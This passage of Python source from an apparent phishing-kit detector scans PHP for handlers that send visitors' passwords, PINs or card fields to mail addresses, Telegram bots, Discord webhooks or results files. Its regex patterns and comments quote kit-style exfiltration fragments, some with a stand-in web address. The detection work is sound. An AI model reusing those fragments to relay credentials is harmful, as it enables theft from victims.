_DROP_SINKS = (b"mail", b"file_get_contents", b"curl_init", b"fopen", b"fwrite", b"fputs",
               b"soapclient", b"file_put_contents")  # fmt: skip


def _request_keys(ctx: Ctx, text: bytes) -> set[bytes]:
    """The keys of request fields glued into ``text`` (code: by ".", or written inside one
    of its literals: "Pass: {$_POST['pass']}")."""
    keys: set[bytes] = set()
    # every match holds "$_" (the pattern has no literal start: without one, the regex
    # engine steps through every offset of a text of every assignment glued together)
    found = _REQ_ELEMENT_CODE.finditer(text) if find(text, b"$_") >= 0 else ()
    for m in itertools.islice(found, 100):
        if m.group(1) or m.group(3):
            keys.add(ctx.lx.value(int(m.group(2))).lower().strip())
    for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
        lit = ctx.lx.value(int(p.group(1)))
        if find(lit, b"$_") >= 0:
            keys.update(t.group(1).lower() for t in _REQ_ELEMENT_TEXT.finditer(lit.lower()))
    # session entries the script filled from the form ($_SESSION['cvv'] = $_POST['cvv']):
    # the kit carries the fields from page to page and sends them at the end
    if find(text, b"$_session") >= 0 or find(text, b"\x01") >= 0:
        stored = _session_fields(ctx)
        if stored:
            for m in itertools.islice(_SESSION_ELEMENT.finditer(text), 100):
                key = ctx.lx.value(int(m.group(1))).lower().strip()
                if key in stored:
                    keys.add(key)
            for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
                lit = ctx.lx.value(int(p.group(1))).lower()
                if find(lit, b"$_session") >= 0:
                    keys.update(k for k in _SESSION_TEXT.findall(lit) if k in stored)
    return keys


_SESSION_ELEMENT = tight(rb"\$_session\s*\[\s*\x01(\d+)\x01\s*\]")
_SESSION_TEXT = tight(rb"\$_session\s*\[\s*['\"]?([\w-]{1,40})")
_SESSION_FROM_FORM = tight(
    rb"\$_session\s*\[\s*\x01(\d+)\x01\s*\]\s*=\s*[\s@(]*(?:trim\s*\(\s*)?"
    rb"\$_(?:post|get|request)\s*\["
)


@per_file("session-fields")
def _session_fields(ctx: Ctx) -> frozenset[bytes]:
    """The session entries the script sets from form fields (their keys, lower case),
    directly or from a variable that holds one as it came."""
    code = ctx.code
    if find(code, b"$_session") < 0:
        return frozenset()
    keys = {
        ctx.lx.value(int(m.group(1))).lower().strip()
        for m in itertools.islice(_SESSION_FROM_FORM.finditer(code), 200)
    }
    # ... or from a variable that holds a form field as it came ($sms = $_POST['sms'];
    # $_SESSION['sms'] = $sms;)
    held = None
    for m in itertools.islice(_SESSION_FROM_VAR.finditer(code), 200):
        if held is None:
            taint(ctx)
            held = ctx.cache["direct"]
        if m.group(2) in held:
            keys.add(ctx.lx.value(int(m.group(1))).lower().strip())
    return frozenset(keys)


_SESSION_FROM_VAR = tight(
    rb"\$_session\s*\[\s*\x01(\d+)\x01\s*\]\s*=\s*[\s@(]*(?:trim\s*\(\s*)?\$(" + NAME_P
    + rb")\s*[);]"
)


# ``$v = ...;`` or ``$v .= ...;``: what a variable is given
# what a variable is given: ``$v = x``, ``$v .= x``, and an element of it (``$rows[] = $row``,
# ``$data['pass'] = $pw``): an array filled one element at a time sends the elements
_GIVEN = tight(rb"\s*(?:\[[^\];]{0,60}\]\s*)?\.?=(?![=>])([^;]{0,400})")


# a value that is a request field as it came (or trimmed, escaped): ``$pass = $_POST['pw']``
_FIELD_VALUE = tight(
    rb"[\s@(]*(?:!?\s*(?:isset|empty)\s*\([^;?]{1,100}\)\s*\?\s*)?"  # isset($_POST['x']) ? ...
    rb"[\s@(]*(?:(?:" + KEEP + rb"|htmlspecialchars|htmlentities|strip_tags|addslashes|"
    rb"urlencode|rawurlencode)\s*\(\s*)*"
    rb"(\$_(?:post|get|request)\s*\[\s*\x01\d+\x01\s*\])"
)


# the same through the kit's own helper, a function or a method given the field alone
# (``$data['pass'] = $form->clean($_REQUEST['password'])``): what it gives is the field
_HELPER_FIELD = tight(
    rb"[\s@(]*(?:\$" + NAME_P + rb"\s*->\s*)?" + NAME_P
    + rb"\s*\(\s*(\$_(?:post|get|request)\s*\[\s*\x01\d+\x01\s*\])\s*\)"
)
# a property of the object a method runs in: ``$this->msg``
_THIS_PROP = tight(rb"\$this\s*->\s*(" + NAME_P + rb")\b(?!\s*\()")
# what it is given: ``$this->msg = ...`` (glued on with .= too), or its declaration's value
_PROP_GIVEN = tight(
    rb"(?:\$this\s*->\s*|(?:public|protected|private|var|static)\s+\$)("
    + NAME_P + rb")\s*\.?=(?![=>])([^;]{0,400})"
)


@per_file("this-props")
def _this_props(ctx: Ctx) -> dict[bytes, list[bytes]]:
    """What each property of ``$this`` is given in the file (the first 200 assignments and
    declarations): the text of each value, by the property's name."""
    props: dict[bytes, list[bytes]] = {}
    if find(ctx.code, b"$this") < 0:
        return props
    for m in itertools.islice(_PROP_GIVEN.finditer(ctx.code), 200):
        props.setdefault(m.group(1), []).append(m.group(2))
    return props


_FOREACH_AS = tight(rb"foreach\s*\(\s*\$(\w+)\s+as\s+(?:\$\w+\s*=>\s*)?\$(\w+)\s*\)")


def _foreach_list(ctx: Ctx, name: bytes) -> bytes | None:
    """The array variable whose items ``$name`` takes in a ``foreach``, if it does."""
    return _foreach_items(ctx).get(name)


@per_file("foreach-items")
def _foreach_items(ctx: Ctx) -> dict[bytes, bytes]:
    loops: dict[bytes, bytes] = {}
    if ctx.first(b"foreach") >= 0:
        for m in itertools.islice(_FOREACH_AS.finditer(ctx.code), 200):
            loops.setdefault(m.group(2), m.group(1))
    return loops


def _sent_text(ctx: Ctx, expr: bytes, depth: int = 2) -> bytes:
    """``expr`` and what the variables in it (in code, or written inside a double-quoted
    literal: "Pass: $pass") were given (glued on with .= too), two levels down: the text a
    call sends. A variable that holds a request field as it came sends that field (written
    here glued, ". $_POST['pw']", as :func:`_request_keys` counts fields)."""
    out = [expr]
    if depth:
        # in the order written (a dict, not a set: a set's order changes with the hash seed,
        # and with it which literal a finding quotes)
        names = dict.fromkeys(
            v.group(1) for v in itertools.islice(VAR.finditer(interpolated(ctx, expr)), 12)
        )
        # foreach ($data as $k => $v): $v sends $data's values
        names.update(
            dict.fromkeys(
                [listed for n in names if (listed := _foreach_list(ctx, n)) is not None]
            )
        )
        # what each variable is given, found once per file: every drop and every level asks
        # again for the same few ($data, $msg, and $this, used thousands of times a class)
        given: dict[bytes, list[tuple[int, re.Match[bytes]]]] = ctx.cache.setdefault(
            "given", {}
        )
        shown = interpolated(ctx, expr, keep_plain=True)
        for name in names:
            sites = given.get(name)
            if sites is None:
                sites = given[name] = var_assigns(ctx.code, name, _GIVEN, 30)
            # an array the text takes elements of by their keys ($data['email']), never
            # whole: what is given to those elements (and to the array whole), not the
            # others ($data['password'] set beside $data['email'] is not sent with it)
            keys = _element_keys_used(ctx, shown, name)
            for at, m in sites:
                if keys is not None:
                    index = _LIT_INDEX.match(ctx.code, at + len(name) + 1)
                    if index is not None and ctx.lx.value(int(index.group(1))).lower() not in keys:
                        continue
                rhs = m.group(1)
                if _CHECKED.search(rhs) is not None:
                    continue  # the outcome of a check or a hash of a value, not the value
                field = _FIELD_VALUE.match(rhs) or _HELPER_FIELD.match(rhs)
                if field is not None:
                    # the field is the whole value ($pass = trim($_POST['pw'])), or its
                    # first part ($line = $_POST['email'] . '|' . $_POST['pass']): glued
                    rest = rhs[field.end() :].lstrip(b" \t\r\n)")
                    rhs = b". " + (rhs.lstrip() if rest.startswith(b".") else field.group(1))
                out.append(_sent_text(ctx, rhs, depth - 1))
        # the object's own properties a method sends ($this->msg): what they were given
        if expr.find(b"$this") >= 0:
            props = _this_props(ctx)
            for prop in dict.fromkeys(_THIS_PROP.findall(expr[:2000])):
                for rhs in props.get(prop, [])[:6]:
                    out.append(_sent_text(ctx, rhs, depth - 1))
    return b" ".join(out)


# an element of an array by a literal key: ``['email']``
_LIT_INDEX = tight(rb"\s*\[\s*\x01(\d+)\x01\s*\]")
_TEXT_INDEX = tight(rb"\[\s*['\"]?([\w-]{1,40})['\"]?\s*\]")


def _element_keys_used(ctx: Ctx, text: bytes, name: bytes) -> set[bytes] | None:
    """The literal keys of ``$name``'s elements ``text`` uses (lower case), or None when it
    uses the array whole (or an element by a computed key) somewhere."""
    keys: set[bytes] = set()
    for pos in var_mentions(text, name, 40):  # not $datas for $data
        end = pos + len(name) + 1
        index = _LIT_INDEX.match(text, end)
        if index is not None:
            keys.add(ctx.lx.value(int(index.group(1))).lower())
        else:  # written inside a double-quoted literal: "$data[email]", "{$data['email']}"
            index = _TEXT_INDEX.match(text, end)
            if index is None:
                return None
            keys.add(index.group(1).lower())
    return keys or None


# a value computed from others that does not carry them: a password check's outcome, a hash
_CHECKED = tight(
    rb"(?<![\w$>:])(?:password_verify|password_hash|hash_equals|hash|hash_hmac|md5|sha1|crypt|"
    rb"wp_check_password)\s*\("
)


# a double-quoted recipient that is one variable written inside it: mail("$send", ...)
_ONE_VAR = tight(rb"\s*\{?\$(" + NAME_P + rb")\}?\s*")
_INCLUDES = tight(rb"(?<![\w$>:])(?:include|require)(?:_once)?\b")
# a global declaration: "global $a, $b;"
_GLOBAL_DECL = tight(rb"(?<![\w$>:])global\s+\$[^;]{0,400}")


def _config_recipient(ctx: Ctx, args: bytes) -> bool:
    """mail()'s recipient is ``"$send"`` with ``$send`` set to a literal address, or a
    variable this file never sets while it includes another file (``include 'email.php';
    mail($to, ...)``: a kit's drop address kept in its config file)."""
    first = first_arg(args).strip()
    p = PLACEHOLDER.fullmatch(first)
    if p is not None:  # "$send": the variable written inside the quotes
        idx = int(p.group(1))
        if ctx.lx.kinds[idx] != "dq":
            return False
        one = _ONE_VAR.fullmatch(ctx.lx.raw_strings[idx].lower())
        if one is None:
            return False
        name = one.group(1)
        lits = var_assigns(ctx.code, name, TAIL_LITERAL, 5)
        if any(b"@" in ctx.lx.value(int(am.group(1))) for _, am in lits):
            return True
    else:
        v = VAR.fullmatch(first)
        if v is None:
            return False
        name = v.group(1)
    if prefiltered_search(_INCLUDES, ctx.code, ctx.first) is None:
        return False
    # the variable is read at the mail() calls only: nothing here sets it (a function that
    # declares it global reaches the one the included file set; that names it, sets nothing)
    seen = sum(1 for _ in var_mentions(ctx.code, name))
    if seen > 1 and ctx.first(b"global") >= 0:
        seen -= sum(
            1
            for m in itertools.islice(_GLOBAL_DECL.finditer(ctx.code), 50)
            if next(var_mentions(m.group(0), name, 1), None) is not None
        )
    return seen <= len(calls_to(ctx, (b"mail",), 20))


def _fixed_recipient(ctx: Ctx, args: bytes) -> bool:
    """The recipient of a mail() call (argument text ``args``) is a literal address, a
    variable set to one, or the item of a loop over a list of literal addresses."""
    if any(b"@" in val for val in recipient_literals(ctx, args)):
        return True
    # a property of the object the method runs in, given a literal address
    prop = _THIS_PROP.fullmatch(first_arg(args).strip())
    if prop is not None:
        for rhs in _this_props(ctx).get(prop.group(1), [])[:6]:
            lit = PLACEHOLDER.fullmatch(rhs.strip())
            if lit is not None and ctx.lx.value(int(lit.group(1))).find(b"@") > 0:
                return True
    v = VAR.fullmatch(first_arg(args).strip())
    listed = _foreach_list(ctx, v.group(1)) if v is not None else None
    if listed is None:
        return _config_recipient(ctx, args)
    for _, m in var_assigns(ctx.code, listed, _GIVEN, 5):
        if any(ctx.lx.value(int(p.group(1))).find(b"@") > 0
               for p in itertools.islice(PLACEHOLDER.finditer(m.group(1)), 10)):
            return True
    return False


def _drops(ctx: Ctx) -> list[tuple[int, bytes]]:
    """Calls that send text to a fixed place, with the text they send: mail() to a literal
    address (or a variable set to one), a fetch of a Telegram bot's address or of a literal
    web address with data glued on, curl posting to a literal address, a file write."""
    out: list[tuple[int, bytes]] = []
    for start, args in calls_to(ctx, (b"mail",), 20):
        parts = top_args(args)
        if len(parts) >= 3 and _fixed_recipient(ctx, args):
            out.append((start, b" , ".join(parts[1:])))
    if string_text(ctx).find(b"api.telegram.org/bot") >= 0:
        for start, args in calls_to(ctx, (b"file_get_contents", b"curl_init", b"fopen"), 20):
            out.append((start, first_arg(args)))
    else:  # a fixed web address with the data glued on: file_get_contents('https://x/?d=' . $m)
        for start, args in calls_to(ctx, (b"file_get_contents", b"fopen"), 20):
            parts = top_args(args)
            first = parts[0]
            if not web_address(ctx, PLACEHOLDER.match(first.lstrip())):
                continue
            if VAR.search(first):
                out.append((start, first))
            elif len(parts) >= 3:  # or posted in the body of a stream context
                out.append((start, parts[2]))
    # curl posting to a fixed web address: the fields it posts
    if has_word(ctx, b"curlopt_postfields") and _fixed_curl_url(ctx):
        for m in itertools.islice(_POSTFIELDS.finditer(ctx.code), 20):
            out.append((m.start(), m.group(1)))
    # an HTTP client's post to a literal web address (Laravel's Http::post(), Guzzle's
    # $client->post(), wp_remote_post(), Symfony's ->request('POST', ...)): what it posts
    if code_has(ctx, b"post") or code_has(ctx, b"request"):
        for m in itertools.islice(_CLIENT_POST.finditer(ctx.code), 20):
            if web_address(ctx, m) and not _client_answer_read(ctx.code, m.start()):
                rest = ctx.code[m.end() : m.end() + 1200]
                out.append((m.start(), rest[: close_paren(rest)]))
    # Laravel's Mail:: to a literal address: Mail::raw($text, fn ($m) => $m->to('x@y')),
    # Mail::to('x@y')->send(new Report($data)): the text, the mailable's arguments
    if code_has(ctx, b"mail"):
        for m in itertools.islice(prefiltered_finditer(_LARAVEL_MAIL, ctx.code, ctx.first), 20):
            rest = ctx.code[m.end() : m.end() + 1200]
            args = rest[: close_paren(rest)]
            if m.group(1) is not None:
                to = _FRAMEWORK_TO_LITERAL.search(args)
                if to is not None and b"@" in ctx.lx.value(int(to.group(1))):
                    out.append((m.start(), top_args(args)[0]))
            elif b"@" in ctx.lx.value(int(m.group(2))):
                out.append((m.start(), args))
    # a SOAP client of a literal web address: what its calls are given (each argument, and
    # each element of an array argument, as one text glued together)
    if code_has(ctx, b"soapclient"):
        out.extend(_soap_drops(ctx))
    # a mailer object (PHPMailer, SwiftMailer...) given a literal address: the bodies it sends
    if code_has(ctx, b"->send") and code_has(ctx, b"->addaddress"):
        out.extend(_mailer_object_drops(ctx))
    # a chat helper of the kit (sendMessage($chat, $text), sendTG($msg), $bot->send(...)) in
    # a script that names Telegram or Discord: what it is given
    if _chat_named(ctx):
        for m in itertools.islice(_CHAT_HELPER_CALL.finditer(ctx.code), 20):
            args = ctx.code[m.end() : m.end() + close_paren(ctx.code[m.end() : m.end() + 600])]
            out.append((m.start(), args))
    # a text file the handler appends the visitor's data to (the kit's "results" log): in a
    # script that reads form fields (or the JSON body its page posts), a write of a variable
    # or of text with one glued in
    if has_any(ctx, _FORM_WORDS):
        # the writes to one handle (or path) are one text: a kit writes a field per line
        # (fwrite($f, $email); fwrite($f, $password);) as often as it glues them first
        written: dict[bytes, tuple[int, list[bytes]]] = {}
        for start, args in calls_to(ctx, (b"fwrite", b"fputs", b"file_put_contents"), 20):
            parts = top_args(args)
            if len(parts) >= 2 and VAR.search(interpolated(ctx, parts[1])) is not None:
                written.setdefault(parts[0].strip(), (start, []))[1].append(parts[1])
        out.extend(
            (start, b" . ".join(texts))
            for handle, (start, texts) in written.items()
            if not _answer_checked(ctx, handle)
        )
    return out


_LARAVEL_MAIL = tight(
    rb"(?<![\w$>:])mail\s*::\s*(?:(raw|html|plain|send)\s*\(|to\s*\(\s*\x01(\d+)\x01\s*\)"
    rb"\s*->\s*(?:send|queue)\s*\()"
)
_FRAMEWORK_TO_LITERAL = tight(rb"->\s*to\s*\(\s*\x01(\d+)\x01")


def _client_answer_read(code: bytes, at: int) -> bool:
    """Whether the HTTP client's answer to the call at ``at`` is kept and read (``$r =
    Http::post(...); if ($r->successful())``, ``$r->json()``, ``json_decode($r...)``): a
    sign-in against a service the site uses goes by its answer; a kit's drop ignores it."""
    lo = max(0, at - 300)
    head = max(code.rfind(b, lo, at) for b in (b";", b"{", b"}"))
    m = _ANSWER_KEPT.match(code, head + 1)
    if m is None:
        return False
    var = re.escape(m.group(1))
    return re.search(
        rb"\$" + var + rb"\s*(?:->|\[)|\(\s*\$" + var + rb"\b", code[at : at + 4000]
    ) is not None


_ANSWER_KEPT = tight(rb"\s*\$(\w+)\s*=(?![=>])")
# an HTTP client's post to a literal address, up to the "," before what it posts (Laravel's
# static Http::post() too); one pattern per literal start (the alternation was tried at
# every "-" and "w" of the code): a match of one holds no "-", ":" nor "w" before its end,
# so none overlaps a match of another
_CLIENT_POST = Branches(
    (rb"->\s*(?:post|postjson|aspost|request)", rb"::\s*post", rb"wp_remote_post"),
    rb"\s*\(\s*(?:\x01\d+\x01\s*,\s*)?\x01(\d+)\x01\s*,",
)


_READ_ANSWER = tight(
    rb"\$(\w+)\s*=\s*@?(?:fgets|fread|stream_get_contents)\s*\(\s*(\$\w+)\s*[,)]"
)


def _answer_checked(ctx: Ctx, handle: bytes) -> bool:
    """What the server answers on ``handle`` (a connection written to) is read into a
    variable that an ``if`` then tests: a sign-in against a service of the site's, which
    goes by the answer. A kit's drop ignores it."""
    if not handle.startswith(b"$"):
        return False
    code = ctx.code
    for m in itertools.islice(_READ_ANSWER.finditer(code), 20):
        if m.group(2) != handle:
            continue
        test = re.search(rb"(?<![\w$>:])if\s*\([^{;]{0,200}\$" + re.escape(m.group(1)) + rb"\b",
                         code[m.end() : m.end() + 2000])
        if test is not None:
            return True
    return False


_SOAP_CLIENT = tight(
    rb"\$(\w+)\s*=\s*new\s+\\?soapclient\s*\(([^;]{0,400})"
)
_ARRAY_OPEN = tight(rb"\s*(?:array\s*\(|\[)")


def _soap_drops(ctx: Ctx) -> list[tuple[int, bytes]]:
    """The calls of a ``new SoapClient(...)`` whose options name a literal web address
    (``'location' => 'https://...'``): every method called on it as a statement of its own
    (``__soapCall('log', array(...))`` or a method the service offers), its answer never
    read, sends its arguments there. A sign-in against a SOAP service reads the answer."""
    out: list[tuple[int, bytes]] = []
    code = ctx.code
    for m in itertools.islice(_SOAP_CLIENT.finditer(code), 4):
        if not any(web_address(ctx, q) for q in PLACEHOLDER.finditer(m.group(2))):
            continue
        call = re.compile(rb"\$" + re.escape(m.group(1)) + rb"\s*->\s*\w+\s*\(")
        for c in itertools.islice(call.finditer(code, m.end()), 10):
            if code[max(0, c.start() - 8) : c.start()].rstrip()[-1:] not in (b";", b"{", b"}"):
                continue  # the answer is read (a sign-in checked against the service)
            args = code[c.end() : c.end() + close_paren(code[c.end() : c.end() + 800])]
            pieces: list[bytes] = []
            for part in top_args(args):
                a = _ARRAY_OPEN.match(part)
                pieces.extend(top_args(part[a.end() :].rstrip()[:-1]) if a is not None else [part])
            out.append((c.start(), b" . ".join(pieces)))
    return out


# form fields: the superglobals, or the raw body (a JSON form posted by the page's script)
_FORM_WORDS = (b"$_post", b"$_get", b"$_request", b"php://input")


def code_has(ctx: Ctx, word: bytes) -> bool:
    return find(ctx.code, word) >= 0


def _chat_named(ctx: Ctx) -> bool:
    """The script names Telegram or Discord (a literal, a class, an included helper)."""
    text = string_text(ctx)
    return any(find(hay, w) >= 0 for hay in (text, ctx.code) for w in (b"telegram", b"discord"))


def _chat_helper_at(ctx: Ctx, start: int) -> bool:
    """The drop at ``start`` is a call of a chat helper (:data:`_CHAT_HELPER_CALL`)."""
    return _CHAT_HELPER_CALL.match(ctx.code, start) is not None


# a call of a chat helper: sendMessage(...), send_telegram(...), sendTG(...), ->sendDiscord(...)
_CHAT_HELPER_CALL = tight(
    rb"(?<![\w$:])(?:->\s*)?(?:send_?(?:message|msg|telegram|tg|discord|to_?telegram|"
    rb"to_?tg|to_?bot|to_?discord)|telegram_?send\w{0,12}|discord_?send\w{0,12})\s*\("
)
# the words of those calls (the rule's gate words: a file with none has no such call)
_CHAT_HELPER_WORDS = (b"sendmessage", b"send_message", b"sendmsg", b"send_msg", b"sendtg",
                      b"send_tg", b"sendto", b"send_to", b"telegram", b"discord")  # fmt: skip
# a mailer object's recipient and the bodies it is given
_MAILER_TO = tight(rb"->\s*addaddress\s*\(\s*(?:\x01(\d+)\x01|\$(\w+))")
_MAILER_BODY = tight(
    rb"->\s*(?:body|altbody)\s*(?:\.?=)(?![=>])([^;]{1,400})|"
    rb"->\s*(?:msghtml|setbody)\s*\(([^;]{1,400})"
)


def _mailer_object_drops(ctx: Ctx) -> list[tuple[int, bytes]]:
    """The bodies a mailer object (PHPMailer's ``$mail->Body = ...; $mail->send()``) sends
    when one of its recipients is a literal address or a variable set to one (or the kit's
    config's, an included file's variable this file never sets)."""
    fixed = False
    value = ctx.lx.value
    for m in itertools.islice(_MAILER_TO.finditer(ctx.code), 10):
        if m.group(1) is not None:
            fixed = value(int(m.group(1))).find(b"@") > 0
        else:
            lits = var_assigns(ctx.code, m.group(2), TAIL_LITERAL, 5)
            fixed = any(value(int(a.group(1))).find(b"@") > 0 for _, a in lits) or (
                not var_assigns(ctx.code, m.group(2), _GIVEN, 1)
                and prefiltered_search(_INCLUDES, ctx.code, ctx.first) is not None
            )
        if fixed:
            break
    if not fixed:
        return []
    return [(b.start(), b.group(1) or b.group(2))
            for b in itertools.islice(_MAILER_BODY.finditer(ctx.code), 10)]


_POSTFIELDS = tight(rb"curlopt_postfields\s*,([^;]{1,400})")
# curl_init('https://...') or curl_setopt($ch, CURLOPT_URL, 'https://...'): a literal address
# or a variable
# curl pointed at a literal, or a variable maybe with a literal path glued on ($api . '/send')
_FIXED_CURL_URL = tight(
    rb"(?:curl_init\s*\(|curlopt_url\s*,)\s*(?:\x01(\d+)\x01|\$(\w+)(?:\s*\.\s*\x01\d+\x01)?)\s*\)"
)
_LITERAL_HEAD = tight(rb"\s*\x01(\d+)\x01")


def _fixed_curl_url(ctx: Ctx) -> bool:
    """curl is pointed at a literal web address, or a variable whose value starts with one
    (``$url = "https://api.telegram.org/bot" . $token . "/sendMessage"``), maybe with a
    literal path glued on at the call (``curl_init($api . '/sendMessage')``)."""
    for m in itertools.islice(_FIXED_CURL_URL.finditer(ctx.code), 20):
        if m.group(1) is not None:
            return True
        for _, a in var_assigns(ctx.code, m.group(2), TAIL_RHS, 5):
            if web_address(ctx, _LITERAL_HEAD.match(a.group(1))):
                return True
    return False


# a form field read from the request: $_POST['pass'], $_GET ['otp']
_FIELD_READ = tight(rb"\$_(?:post|get|request)\s*\[\s*\x01(\d+)\x01\s*\]")
# a site's own login or sign-up: the password is checked or hashed, not passed on
# or an application's own settings screen (its SMTP password saved behind a capability check)
_AUTH_USE = tight(
    rb"(?<![\w$>:])(?:password_hash|password_verify|wp_signon|wp_authenticate|wp_check_password|"
    rb"hash_equals|wp_create_user|wp_insert_user|current_user_can|check_admin_referer|"
    rb"check_ajax_referer|wp_verify_nonce|update_option|register_setting)\s*\("
)


@per_file("auth-used")
def _auth_used(ctx: Ctx) -> bool:
    """Whether the file checks a password or a capability (:data:`_AUTH_USE`): searched once
    a file, where three paths of the handler rules ask."""
    return prefiltered_search(_AUTH_USE, ctx.code, ctx.first) is not None


def _telegram_fields(ctx: Ctx) -> Hit | None:
    """A script that sends messages to a Telegram bot (``api.telegram.org/bot...sendMessage``)
    and reads two or more form fields, a password, PIN, OTP or card field among them, with no
    check or hash of that password: the handler passes what the visitor typed to the bot,
    however the message is built (a helper ``bot($method, $datas)``, an array, a session)."""
    if not _chat_drop(string_text(ctx)):
        return None
    keys: set[bytes] = set()
    first = -1
    for m in itertools.islice(_FIELD_READ.finditer(ctx.code), 200):
        keys.add(ctx.lx.value(int(m.group(1))).lower().strip())
        first = m.start() if first < 0 else first
    if len(keys) < 2 or not any(_CREDENTIAL_KEY.search(k) for k in keys):
        return None
    if _auth_used(ctx):
        return None
    return Hit(ctx.line_of_code(first), excerpt(b"form fields to a Telegram bot: "
                                                 + b", ".join(sorted(keys)[:5])))


# the visitor's own address or browser, which a kit adds to every result it sends
_VISITOR_MARK = tight(rb"remote_addr|http_user_agent|http_x_forwarded_for|http_client_ip")


def _kit_recipient_drop(ctx: Ctx) -> Hit | None:
    """mail() to an address the script does not set and does not take from the request (a
    kit's config file gives it: ``include 'config.php'; mail($result_to, ...)``), with a text
    that holds two or more form fields, a password or card field among them, and the
    visitor's address or user agent: a results mail. A site mailing a form to its own
    configured address sends what the visitor wrote to it, never a password."""
    for start, parts in _outside_calls(ctx, calls_to(ctx, (b"mail",), 20)):
        text = _sent_text(ctx, b" , ".join(parts[1:]))
        keys = _request_keys(ctx, text)
        if _code_step(ctx, keys, text):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        if len(keys) < 2 or not any(_CREDENTIAL_KEY.search(k) for k in keys):
            continue
        marks = any(
            _VISITOR_MARK.search(ctx.lx.value(int(p.group(1))).lower())
            for p in itertools.islice(PLACEHOLDER.finditer(text), 200)
        )
        if marks:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return _kit_helper_drop(ctx)


def _outside_calls(
    ctx: Ctx,
    calls: Iterable[tuple[int, bytes]],
    wanted: Callable[[list[bytes]], bool] | None = None,
) -> Iterator[tuple[int, list[bytes]]]:
    """Of ``calls`` (where each starts, its argument text), those given three or more
    arguments, the first a variable holding an address the script neither sets nor takes
    from the request (a kit's config file gives it): each with its arguments. None in a
    file that checks a password. ``wanted``: a cheaper test of the arguments, asked first
    (the recipient's test runs the request-taint pass)."""
    direct: set[bytes] | None = None
    for start, args in calls:
        parts = top_args(args)
        if len(parts) < 3 or parts[0].find(b"$_") >= 0:
            continue
        rcpt = VAR.fullmatch(parts[0].strip())
        if rcpt is None or (wanted is not None and not wanted(parts)):
            continue
        if direct is None:
            # searched once a call could be a results mail (the whole file's search was
            # most of this rule's time, on files with no such call)
            if _auth_used(ctx):
                return
            taint(ctx)
            direct = ctx.cache["direct"]
        if _outside_recipient(ctx, rcpt.group(1), direct):
            yield start, parts


# a mail function the kit defines in a file it includes: kirim_mail($to, $from, $subject,
# $message), send_mail($to, ...), smtpmail(...): any name with "mail" in it but mail()
_NAME_BYTES = frozenset(b"abcdefghijklmnopqrstuvwxyz0123456789_")
_CALL_OPEN = tight(rb"\s*\(")
# the password kind of credential field; the others (a card's, a bank account's routing
# number, a PIN, an OTP) are what a form collecting them for a bank asks beside it
_PASSWORD_KEY = tight(rb"pass|pwd|psw|senha|contrase|kennwort")


def _helper_mail_calls(ctx: Ctx) -> Iterator[tuple[int, bytes]]:
    """Calls of a mail function the file does not define (the kit's, from an include):
    where each starts and its argument text. Found from each "mail" of the code (a name
    pattern tried at every offset cost as much as the rule's other work)."""
    code = ctx.code
    at = find(code, b"mail")
    seen = 0
    while at >= 0 and seen < 40:
        lo, hi = at, at + 4
        while lo > 0 and code[lo - 1] in _NAME_BYTES:
            lo -= 1
        while hi < len(code) and code[hi] in _NAME_BYTES:
            hi += 1
        at = find(code, b"mail", hi)
        opened = _CALL_OPEN.match(code, hi)
        if opened is None or (lo > 0 and code[lo - 1 : lo] in b"$>:\\"):
            continue
        name = code[lo:hi]
        seen += 1
        if name == b"mail" or function_body(ctx, name) is not None:
            continue
        if code[max(0, lo - 12) : lo].rstrip().endswith(b"function"):
            continue
        rest = code[opened.end() : opened.end() + 600]
        yield lo, rest[: close_paren(rest)]


def _kit_helper_drop(ctx: Ctx) -> Hit | None:
    """A call of a mail function the file does not define (the kit's, from an include) to
    an address the script neither sets nor takes from the request, given a text with three
    or more form fields, two credential fields among them and one of those no password (a
    card's, a bank account's routing number, a PIN): a bank kit's results mailed by its own
    helper (``kirim_mail($to, $from, $subject, $message)``). A site's forms mail what the
    visitor wrote to them, never a PIN with a password."""
    # the fields the file reads: two credential fields, one of them no password, or no call
    # is looked at (the calls' texts and the recipient's taint pass cost more)
    read = {ctx.lx.value(int(m.group(1))).lower().strip()
            for m in itertools.islice(_FIELD_READ.finditer(ctx.code), 200)}
    asked = [k for k in read if _CREDENTIAL_KEY.search(k)]
    if len(asked) < 2 or all(_PASSWORD_KEY.search(k) for k in asked):
        return None

    def bank_fields(parts: list[bytes]) -> bool:
        keys = _request_keys(ctx, _sent_text(ctx, b" , ".join(parts[1:])))
        cred = {k for k in keys if _CREDENTIAL_KEY.search(k)}
        return (len(keys) >= 3 and len(cred) >= 2
                and any(_PASSWORD_KEY.search(k) is None for k in cred)
                and not _credential_hashed(ctx, keys))

    for start, _parts in _outside_calls(ctx, _helper_mail_calls(ctx), bank_fields):
        return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


def _outside_recipient(ctx: Ctx, name: bytes, direct: set[bytes], depth: int = 2) -> bool:
    """Whether ``$name`` holds a value that the script neither takes from the request nor
    sets itself: never given here, or given only another such variable (``$to =
    $result_to;`` with ``$result_to`` from an included config)."""
    if name in direct:
        return False
    given = var_assigns(ctx.code, name, _GIVEN, 5)
    if not given:
        return True
    if depth == 0:
        return False
    for _, m in given:
        v = VAR.fullmatch(m.group(1).strip())
        if v is None or not _outside_recipient(ctx, v.group(1), direct, depth - 1):
            return False
    return True


# every field of the query string walked: foreach ($_GET as $key => $value) ($_REQUEST: an
# order form posting its fields to the owner's chat)
_QUERY_LOOP = tight(
    rb"foreach\s*\(\s*\$_get\s+as\s+\$(" + NAME_P + rb")\s*=>\s*"
    rb"\$(" + NAME_P + rb")\s*\)"
)
_APPENDED = tight(rb"\$(" + NAME_P + rb")\s*(?:\.=|\[\s*\]\s*=)([^;]{1,200})")
_SENDERS = (b"curl_setopt", b"curl_init", b"file_get_contents", b"json_encode", b"http_build_query")


@feature("query_fields_relayed")
def _query_fields_relayed(ctx: Ctx, rule: Rule) -> Hit | None:
    """Every field of the query string, names and values, glued into a message that goes to
    a Telegram bot or a Discord webhook: an endpoint that passes on whatever a page's script
    or an image beacon puts in its URL (stolen form fields, keystrokes, cookies). A form that
    reports to a chat posts its fields and names the ones it sends."""
    if not _chat_drop(string_text(ctx)) or _auth_used(ctx):
        return None
    code = ctx.code
    for m in itertools.islice(_QUERY_LOOP.finditer(code), 5):
        key, val = b"$" + m.group(1), b"$" + m.group(2)
        body = _block_after(code, find(code, b"(", m.start()) + 1)
